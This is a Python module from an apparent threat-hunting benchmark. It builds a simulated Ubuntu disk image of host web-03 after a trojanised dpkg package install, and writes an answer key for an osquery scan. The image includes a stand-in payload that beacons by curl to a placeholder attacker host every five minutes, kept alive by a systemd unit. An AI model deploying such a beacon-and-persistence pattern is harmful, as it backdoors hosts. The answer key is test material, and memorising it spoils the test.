"""The sample evidence image: web-03's disk as the sample's events describe it.

``huntbench --sample`` scans this image with the seed's osquery SQL, so the offline demo
shows the local side linked to the fleet. web-03 is one of the three hosts where the
trojanised ``netfilter-persistent-helper`` was installed (intrusion A); the image holds what
its events say was written there, with the events' times as mtimes:

* every ``/var/lib/dpkg/info`` file the events rename or create on web-03 (the planted
  package's maintainer scripts among routine upgrades), the postinst holding exactly the
  commands the fleet's process events show it spawning (the seed hunt's Q2);
* what that postinst dropped (``/usr/local/sbin/nph-sync``, the systemd unit), ``/etc/passwd``,
  ``/etc/group``, ``/etc/hostname``, ``/etc/os-release``, dpkg's ``status``; benign noise (a
  shell history, older package files outside the 7-day window).

The image is written deterministically (same bytes, same times) into the user's cache
folder the first time it is needed. ``image_answer_key.json`` lists what the seed's local
scan must find in it at the sample's capture time; ``python -m sample_data.image --key``
rewrites it after a change here (the tests check the two agree).
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil
import sys
import tempfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import platformdirs

from sample_data import capture_time, data_files, folder
from sample_data.story import PKG_A

HOST = "web-03"
INFO = "/var/lib/dpkg/info/"
KEY_FILE = "image_answer_key.json"
PLANTED_PACKAGE = PKG_A.name
VERSION = 1
"""Bumped when the image's content changes: the cache folder's name includes it."""
_ROOT_IDS = {"root": 0, "deploy": 1001}


def _events() -> list[dict]:
    """web-03's file events from the bundled data, oldest first."""
    out = []
    for path in data_files():
        opener = gzip.open if path.suffix == ".gz" else open
        with opener(path, "rt", encoding="utf-8") as handle:
            for line in handle:
                event = json.loads(line)
                if event.get("host", {}).get("name") == HOST and "file" in event:
                    out.append(event)
    out.sort(key=lambda e: e["@timestamp"])
    return out


def _stamp(text: str) -> int:
    """An event's ``@timestamp`` as Unix nanoseconds."""
    moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    return int(moment.timestamp()) * 1_000_000_000 + moment.microsecond * 1000


def _postinst(package: str) -> str:
    commands = PKG_A.scripts["postinst"] if package == PLANTED_PACKAGE else ()
    body = "".join(f"    {' '.join(c.argv)}\n" for c in commands)
    if not body:
        body = f"    # Automatically added by dh_installdeb for {package}\n    :\n"
    return f'#!/bin/sh\nset -e\n\nif [ "$1" = "configure" ]; then\n{body}fi\n\nexit 0\n'


def _info_file(name: str) -> str:
    """Plausible content for ``/var/lib/dpkg/info/NAME`` (a package's control file)."""
    package, _, kind = name.rpartition(".")
    docs = f"/usr/share/doc/{package}"
    if kind == "postinst":
        return _postinst(package)
    if kind in ("preinst", "prerm", "postrm", "config"):
        return f"#!/bin/sh\nset -e\n# {kind} of {package}: nothing to do\nexit 0\n"
    if kind == "list":
        extra = ["/usr/share/netfilter-persistent-helper",
                 "/usr/share/netfilter-persistent-helper/nph-sync.service"] if package == PLANTED_PACKAGE else []
        return "\n".join(["/.", "/usr", "/usr/share", "/usr/share/doc", docs, f"{docs}/copyright", *extra]) + "\n"
    if kind == "md5sums":
        digest = hashlib.md5(package.encode()).hexdigest()
        return f"{digest}  {docs.lstrip('/')}/copyright\n"
    if kind == "conffiles":
        return f"/etc/{package}/{package}.conf\n"
    if kind == "triggers":
        return "interest-noawait /usr/share/ca-certificates\n"
    if kind == "templates":
        return f"Template: {package}/setup\nType: boolean\nDescription: configure {package}?\n"
    return f"{package} {kind}\n"


def plan() -> dict[str, tuple[str, int, str]]:
    """Image path -> (content, mtime in ns, owner name), everything the image holds."""
    files: dict[str, tuple[str, int, str]] = {}
    last: dict[str, int] = {}
    for event in _events():
        path = event["file"]["path"]
        if event["event"]["action"] in ("rename", "creation", "modification"):
            last[path] = _stamp(event["@timestamp"])
    for path, when in last.items():
        if path.startswith(INFO) and not path.endswith("-new"):
            files[path] = (_info_file(path[len(INFO):]), when, "root")
    capture = int(capture_time().timestamp()) * 1_000_000_000
    files["/usr/local/sbin/nph-sync"] = (
        "#!/bin/sh\n# nph-sync (sample stand-in for the downloaded payload)\n"
        "while :; do curl -fsS https://cdn.pkg-mirror.evil.example/nph/beacon >/dev/null; sleep 300; done\n",
        last.get("/usr/local/sbin/nph-sync", capture), "root")
    unit = ("[Unit]\nDescription=Netfilter persistence sync\n\n[Service]\nExecStart=/usr/local/sbin/nph-sync\n"
            "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")
    files["/etc/systemd/system/nph-sync.service"] = (unit, last.get("/etc/systemd/system/nph-sync.service", capture),
                                                     "root")
    files["/usr/share/netfilter-persistent-helper/nph-sync.service"] = (
        unit, last.get("/var/lib/dpkg/info/netfilter-persistent-helper.list", capture), "root")
    files["/etc/passwd"] = (
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
        "deploy:x:1001:1001:Deploy user,,,:/home/deploy:/bin/bash\n",
        last.get("/etc/passwd", capture), "root")
    files["/etc/group"] = ("root:x:0:\ndaemon:x:1:\nwww-data:x:33:\ndeploy:x:1001:\n",
                           last.get("/etc/passwd", capture), "root")
    files["/etc/hostname"] = (f"{HOST}\n", capture - 30 * 86400 * 1_000_000_000, "root")
    files["/etc/os-release"] = ('PRETTY_NAME="Ubuntu 22.04.5 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\n'
                                'ID=ubuntu\nID_LIKE=debian\n', capture - 30 * 86400 * 1_000_000_000, "root")
    packages = sorted({p[len(INFO):].rpartition(".")[0] for p in files if p.startswith(INFO)})
    status = "".join(f"Package: {p}\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0\n\n"
                     for p in packages)
    files["/var/lib/dpkg/status"] = (status, last.get("/var/lib/dpkg/status", capture), "root")
    files["/home/deploy/.bash_history"] = ("sudo apt-get update\nsudo apt-get install -y netfilter-persistent-helper\n",
                                           last.get("/home/deploy/.bash_history", capture), "deploy")
    return files


def build(root: Path) -> None:
    """Write the image under ``root`` (an empty or missing folder)."""
    can_chown = os.geteuid() == 0
    files = plan()
    for path, (content, mtime_ns, owner) in sorted(files.items()):
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content, encoding="utf-8")
        os.chmod(target, 0o755 if "/sbin/" in path or path.endswith(("inst", "rm", ".config")) else 0o644)
        if can_chown:
            os.chown(target, _ROOT_IDS[owner], _ROOT_IDS[owner])
        os.utime(target, ns=(mtime_ns, mtime_ns))
    if can_chown:
        os.chown(root / "home/deploy", 1001, 1001)
    # A folder's mtime is when an entry last appeared in it: the newest of its children,
    # set deepest first so the whole tree is the same at every build.
    folders = sorted((p for p in root.rglob("*") if p.is_dir() and not p.is_symlink()),
                     key=lambda p: len(p.parts), reverse=True) + [root]
    for folder_path in folders:
        newest = max((child.lstat().st_mtime_ns for child in folder_path.iterdir()), default=0)
        os.utime(folder_path, ns=(newest, newest))


def answer_key() -> dict:
    """What the seed's osquery SQL must return on the image at the sample's capture time."""
    capture = capture_time()
    since = int((capture - timedelta(days=7)).timestamp())
    rows = []
    for path, (content, mtime_ns, owner) in sorted(plan().items()):
        mtime = mtime_ns // 1_000_000_000
        if not path.startswith(INFO) or mtime <= since:
            continue
        name = path[len(INFO):]
        rows.append({
            "filename": name, "path": path, "file_owner": owner, "group_owner": owner,
            "file_last_modified_time": datetime.fromtimestamp(mtime, timezone.utc).strftime("%Y-%m-%d %H:%M:%S"),
            "size_bytes": len(content.encode("utf-8")),
            "role": "planted" if name.startswith(PLANTED_PACKAGE + ".") else "benign",
        })
    return {
        "host": HOST, "capture_time": capture.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "query": "the seed hunt's osquery SQL (query 2), --now at the capture time",
        "maintainer_script": {"path": f"{INFO}{PLANTED_PACKAGE}.postinst",
                              "commands": [" ".join(c.argv) for c in PKG_A.scripts["postinst"]]},
        "rows": rows,
    }


def _cache_base() -> Path:
    env = os.environ.get("HUNTBENCH_CACHE_DIR")
    return Path(env) if env else Path(platformdirs.user_cache_dir("huntbench"))


def _image_key() -> str:
    text = Path(__file__).read_bytes() + str(VERSION).encode() + capture_time().isoformat().encode()
    for path in data_files():
        stat = path.stat()
        text += f"{path.name}:{stat.st_size}".encode()
    return hashlib.sha256(text).hexdigest()[:12]


def sample_image() -> Path:
    """The image's folder (the ``--root``), written on first use. Raises OSError when the
    cache folder cannot be written."""
    base = _cache_base()
    final = base / f"sample-image-{HOST}-{_image_key()}"
    root = final / "root"
    if (final / "complete").is_file() and root.is_dir():
        return root
    base.mkdir(parents=True, exist_ok=True, mode=0o700)
    staging = Path(tempfile.mkdtemp(prefix=".sample-image-", dir=base))
    try:
        build(staging / "root")
        (staging / "complete").write_text(f"huntbench sample image of {HOST}\n", encoding="utf-8")
        try:
            os.rename(staging, final)
        except OSError:
            if not (final / "complete").is_file():  # not another process finishing first
                shutil.rmtree(final, ignore_errors=True)
                os.rename(staging, final)
    finally:
        if staging.exists():
            shutil.rmtree(staging, ignore_errors=True)
    return root


def main(argv: list[str]) -> int:
    if argv[1:] == ["--key"]:
        (folder() / KEY_FILE).write_text(json.dumps(answer_key(), indent=1) + "\n", encoding="utf-8")
        print(f"wrote {folder() / KEY_FILE}")
        return 0
    if len(argv) == 2:
        build(Path(argv[1]))
        return 0
    print("usage: python -m sample_data.image --key | DIR", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
